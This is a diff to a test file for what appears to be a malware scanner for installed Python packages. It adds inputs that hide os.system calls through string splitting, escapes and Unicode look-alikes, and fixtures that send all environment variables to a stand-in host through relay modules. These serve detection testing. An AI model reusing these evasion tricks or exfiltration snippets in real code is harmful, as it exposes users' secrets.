@@ -37,6 +37,20 @@ HOME = "lib/site-packages/pack/"
         "U = 'https://api.binancee.net/'\n",
         "\uff45xec(x)\n",
         "importlib\n",
+        "getattr(o, 'sys' 'tem')(x)\n",
+        "getattr(o, ('sys')  # so\n + 'tem')(x)\n",
+        "getattr(o, 'sys\\\ntem')(x)\n",
+        "getattr(o, '\\163ystem')(x)\n",
+        "getattr(o, '\\N{LATIN SMALL LETTER S}ystem')(x)\n",
+        "getattr(o, ''.join(['sys', 'tem']))(x)\n",
+        "getattr(o, '{}{}'.format('sys', 'tem'))(x)\n",
+        "getattr(o, f\"{'sys'}tem\")(x)\n",
+        "getattr(o, ''.join(reversed('metsys')))(x)\n",
+        "getattr(o, bytes([115, 121]).decode() + 'stem')(x)\n",
+        "getattr(o, 'rxrp'.translate(t))(x)\n",
+        "b\uff16\uff14 = base\uff16\uff14\n",
+        "from pip._internal.cli.main import main as go\n",
+        "import pip\n",
     ],
 )
 def test_a_file_with_a_word_that_tells_is_read(text: str) -> None:
@@ -55,7 +69,8 @@ def test_only_what_is_installed_is_skimmed(path: str) -> None:
 def test_of_a_file_in_which_nothing_begins_or_ends_as_much_is_kept_as_of_a_skimmed_one() -> None:
     text = "import importlib\nfrom .net import send\ndef go(x):\n    send(x)\n"
     module = read(HOME + "a.py", text.encode(), whole=False)
-    assert (module.skimmed, module.summary.flows) == ((".net:send", "."), ())
+    assert (module.skimmed, module.summary.flows) == (True, ())
+    assert module.summary.names["send"] == "/lib.site-packages.pack.net.send"
     assert read(HOME + "a.py", text.encode()).summary.flows
 
 
@@ -75,6 +90,7 @@ def test_a_skimmed_file_still_says_what_stands_out_of_sight_and_which_hosts_it_n
 
 SEND = "import requests\ndef send(x, to):\n    requests.post(to, json=x)\n"
 READ = "import os\ndef held():\n    return dict(os.environ)\n"
+GO = "def go(to):\n    requests.post(f'https://{to}/n', json=dict(os.environ))\n"
 TO = "'https://collector.example/n'"
 RELAYS = {
     "handed on as a parameter": (
@@ -88,6 +104,26 @@ RELAYS = {
     "taken from one and given to another": (
         {"relay.py": "from .held import held\nfrom .net import send\nsend(held(), " + TO + ")\n"},
         "x = 1\n",
+    ),
+    "handed on by name": (
+        {"relay.py": "from .net import (  # noqa: F401 (kept)\n    send as go,\n)\n"},
+        "import os\nfrom .relay import go\ngo(dict(os.environ), " + TO + ")\n",
+    ),
+    "handed on with all names": (
+        {"relay.py": "from .net import *\n", "other.py": "from .relay import *\n"},
+        "import os\nfrom .other import send\nsend(dict(os.environ), " + TO + ")\n",
+    ),
+    "taken behind a sign of a comment": (
+        {"relay.py": "x = '#'; from .held import held\nfrom .net import send\nsend(held(), " + TO + ")\n"},
+        "x = 1\n",
+    ),
+    "kept by a class and sent by one that extends it": (
+        {"base.py": "from .net import send\nclass Base:\n    def put(self, x):\n        send(x, " + TO + ")\n"},
+        "import os\nfrom .base import Base\nclass Own(Base):\n    def go(self):\n        self.put(dict(os.environ))\n",
+    ),
+    "the host said by whoever hands on": (
+        {"conf.py": "PLACE = 'collector' + '.example'\n"},
+        "import os, requests\nfrom .conf import PLACE\n" + GO + "go(PLACE)\n",
     ),
     "through two": (
         {"a.py": "from .b import go\ndef on(x):\n    go(x)\n",
@@ -109,5 +145,8 @@ def test_what_passes_through_a_skimmed_file_is_followed(relays: dict[str, str], 
     found = [one for module in seen.modules for one in module.findings] + list(join(seen.modules))
     assert "code/environment-sent" in {one.rule for one in found}
     skimmed = {Path(one.path).name for one in seen.modules if one.skimmed}
+    only_names = {
+        name for name, text in relays.items() if "(dict" not in text and "def" not in text and "=" not in text
+    }
     assert "plain.py" in skimmed
-    assert skimmed <= {"plain.py", "main.py"}
+    assert skimmed <= {"plain.py", "main.py", *only_names}
